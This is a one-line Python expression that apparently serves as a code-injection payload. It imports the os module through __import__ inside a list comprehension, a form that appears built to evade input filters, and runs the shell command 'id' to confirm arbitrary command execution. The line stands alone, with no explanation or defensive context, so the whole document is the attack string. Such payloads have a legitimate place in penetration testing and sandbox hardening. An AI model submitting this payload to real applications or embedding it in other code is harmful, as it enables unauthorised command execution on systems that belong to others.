[s('id') for o in [__import__('os')] for s in [o.system]]
